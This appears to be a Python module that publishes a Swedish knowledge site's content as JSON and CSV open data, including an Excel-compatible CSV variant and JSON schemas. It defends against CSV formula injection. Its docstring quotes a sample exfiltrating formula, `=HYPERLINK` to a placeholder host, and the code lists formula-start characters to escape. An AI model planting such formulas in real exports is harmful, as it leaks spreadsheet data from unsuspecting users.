"""Open data: every content type as JSON and CSV under api/, plus the page that documents them.

Generic over CONTENT_TYPES: a new type gets `api/<name>s.json` and `.csv` with
no change here. Field names are the models' English names, so the files keep
stable keys while the Swedish labels on the site may change.

CSV comes in two flavours because no single file opens right everywhere:
`<name>s.csv` is RFC 4180 (comma, UTF-8 without BOM) for scripts, LibreOffice
and spreadsheet imports; `<name>s-excel.csv` adds a UTF-8 BOM and uses `;`,
which is what Excel needs to show å ä ö and split the columns when it opens
a file by double-click with Swedish regional settings.

Both are written through defusedcsv, because a spreadsheet runs a cell that
starts with a formula character (CSV or formula injection): a title such as
`=HYPERLINK("https://x.example/?"&A1)` would otherwise become a live formula
on the computer of whoever opens the file. See `defuse_cell`.
"""

from __future__ import annotations

import datetime as dt
import io
import json
from typing import TYPE_CHECKING, Any

from defusedcsv import csv as defusedcsv
from pydantic import BaseModel

from kunskapsarena.generate.editors.schema import dumps as schema_json
from kunskapsarena.generate.editors.schema import front_matter_schema
from kunskapsarena.generate.render import environment
from kunskapsarena.index.arena import Arena, Record
from kunskapsarena.model.content_types import CONTENT_TYPES, ContentType
from kunskapsarena.model.field_specs import declared_fields

if TYPE_CHECKING:
    from kunskapsarena.generate.site_info import SiteInfo

API_DIR = "api"
LIST_SEPARATOR = " | "
ITEM_KEYS = ("type", "slug", "url")     # added to every item; field_specs.RESERVED_NAMES keeps them off the models
DATA_LICENSE = "CC-BY-4.0"


def api_name(ctype: ContentType) -> str:
    """'methods' for 'method': the English plural used in file names."""
    return f"{ctype.name}s"


def published(arena: Arena, ctype: ContentType) -> list[Record]:
    """Items visible on the site (blog drafts are not)."""
    return arena.published(ctype)


def item_data(record: Record, site: SiteInfo) -> dict[str, Any]:
    fields = record.data.model_dump(mode="json")
    return {"type": record.type.name, "slug": record.slug, "url": site.absolute(record.url), **fields}


def json_document(arena: Arena, ctype: ContentType, site: SiteInfo) -> str:
    items = [item_data(record, site) for record in published(arena, ctype)]
    # No build date in the file: a rebuild of the same content must give the same bytes.
    document = {"type": ctype.name, "title": ctype.plural_label, "license": DATA_LICENSE,
                "source": site.absolute(""), "count": len(items), "items": items}
    return json.dumps(document, ensure_ascii=False, separators=(",", ":")) + "\n"


def csv_columns(model: type[BaseModel]) -> list[tuple[str, str, str | None]]:
    """(column, field, subfield): nested objects such as duration become duration.min, duration.max."""
    columns = [(name, name, None) for name in ITEM_KEYS]
    for spec in declared_fields(model):
        if spec.nested is not None and not spec.many:
            columns += [(f"{spec.name}.{sub.name}", spec.name, sub.name) for sub in declared_fields(spec.nested)]
        else:
            columns.append((spec.name, spec.name, None))
    return columns


def csv_cell(value: Any) -> str:
    """Lists of plain values joined with ' | '; lists of objects as JSON; empty for none."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        if any(isinstance(v, dict | list) for v in value):
            return json.dumps(value, ensure_ascii=False)
        return LIST_SEPARATOR.join(str(v) for v in value)
    if isinstance(value, dict):
        return json.dumps(value, ensure_ascii=False)
    return str(value)


# What defusedcsv 3.0.0 does (read in its source, defusedcsv/csv.py `_escape`): a cell that starts
# with = + - @ | or % gets an apostrophe in front, which spreadsheets read as "this is text", and
# every | in that cell becomes \| (the pipe is how old DDE formulas call programs). Cells that are
# plain numbers (-12, -1,5, -0.5) are left alone, so negative numbers stay numbers; a "-" alone or
# "- text" gets the apostrophe, which costs nothing but a visible ' in a text cell.
# OWASP also names tab and carriage return as formula starts; defusedcsv leaves those alone, so
# they get the same treatment here. (Our models strip leading whitespace, so today no cell can
# start with either; this keeps the rule whole if that ever changes.)
DEFUSEDCSV_STARTS = ("=", "+", "-", "@", "|", "%")
OWASP_EXTRA_STARTS = ("\t", "\r")
FORMULA_STARTS = DEFUSEDCSV_STARTS + OWASP_EXTRA_STARTS


def defuse_cell(cell: str) -> str:
    """The part of the OWASP rule defusedcsv lacks, done the way defusedcsv does the rest.

    A reader undoes all of it the same way: a cell that starts with ' followed by one of
    FORMULA_STARTS loses the ' and gets | back for \\| (documented on the Öppna data page).
    The one value that rule misreads is one an editor wrote with a leading ' before such a
    character ('=x): it is left as it is and reads back as =x. It is text to a spreadsheet
    either way, so we accept that rather than diverge from defusedcsv; the JSON has it exact.
    """
    if cell.startswith(OWASP_EXTRA_STARTS):
        return "'" + cell.replace("|", "\\|")
    return cell


def csv_document(arena: Arena, ctype: ContentType, site: SiteInfo, *, excel: bool = False) -> bytes:
    columns = csv_columns(ctype.model)
    buffer = io.StringIO(newline="")
    writer = defusedcsv.writer(buffer, delimiter=";" if excel else ",", lineterminator="\r\n")
    writer.writerow([column for column, _field, _sub in columns])
    for record in published(arena, ctype):
        data = item_data(record, site)
        row = []
        for _column, field, sub in columns:
            value = data.get(field)
            if sub is not None:
                value = value.get(sub) if isinstance(value, dict) else None
            row.append(defuse_cell(csv_cell(value)))
        writer.writerow(row)
    text = buffer.getvalue()
    return ("\ufeff" + text if excel else text).encode("utf-8")


def field_rows(model: type[BaseModel], prefix: str = "") -> list[dict[str, str]]:
    """The field reference on the Öppna data page, read from the model."""
    rows = []
    for spec in declared_fields(model):
        kind = ("lista med " if spec.many else "") + _kind(spec.item)
        if spec.vocabulary:
            kind += f" (id ur listan {spec.vocabulary})"
        elif spec.ref:
            kind += " (id ur people.yml)" if spec.ref == "person" else f" (slug för {spec.ref})"
        rows.append({"name": prefix + spec.name, "title": spec.title, "kind": kind,
                     "description": spec.description, "required": "ja" if spec.required else "nej"})
        if spec.nested is not None:
            rows += field_rows(spec.nested, prefix + spec.name + ("[]." if spec.many else "."))
    return rows


def _kind(item: Any) -> str:
    if isinstance(item, type) and issubclass(item, BaseModel):
        return "objekt"
    return {str: "text", int: "heltal", bool: "true/false", dt.date: "datum (ÅÅÅÅ-MM-DD)",
            dt.datetime: "tidpunkt (ISO 8601)"}.get(item, "text")


def open_data_files(arena: Arena, site: SiteInfo) -> dict[str, str | bytes]:
    files: dict[str, str | bytes] = {}
    types = []
    for ctype in CONTENT_TYPES:
        name = api_name(ctype)
        files[f"{API_DIR}/{name}.json"] = json_document(arena, ctype, site)
        files[f"{API_DIR}/{name}.csv"] = csv_document(arena, ctype, site)
        files[f"{API_DIR}/{name}-excel.csv"] = csv_document(arena, ctype, site, excel=True)
        # The same JSON Schema editors get from `arena schema`: the published contract of the fields.
        files[f"{API_DIR}/schema/{ctype.name}.schema.json"] = schema_json(front_matter_schema(ctype, arena))
        types.append({"ctype": ctype, "name": name, "count": len(published(arena, ctype)),
                      "fields": field_rows(ctype.model)})
    files["oppna-data.md"] = environment(arena).get_template("open_data.md.j2").render(
        types=types, api_dir=API_DIR, separator=LIST_SEPARATOR.strip(), license=DATA_LICENSE,
        json_url=site.absolute(f"{API_DIR}/{api_name(CONTENT_TYPES[0])}.json"))
    return files
